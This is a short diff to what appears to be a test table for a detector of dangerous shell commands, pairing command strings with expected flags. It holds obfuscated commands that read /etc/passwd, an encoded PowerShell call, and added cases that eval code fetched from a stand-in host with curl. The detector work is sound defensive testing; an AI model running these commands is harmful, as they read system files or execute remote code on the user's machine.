@@ -24,6 +24,9 @@ DANGEROUS = {
 DECODES = {
     "cat${IFS}/etc/passwd${IFS}x": True, "/b?n/c?t /etc/hosts": True,
     "powershell -nop -enc SQBFAFgA": True, "echo $IFS": False, "ls /bin/c*": False,
+    'eval "$(direnv hook bash)"': False, 'eval "$(ssh-agent -s)" && ssh-add': False,
+    "eval `brew shellenv`": False, 'eval "$(gh api repos/x)"': True,
+    'eval "$(direnv hook bash; curl x.example)"': True, 'eval "$(curl -s x.example)"': True,
 }  # fmt: skip
 
 
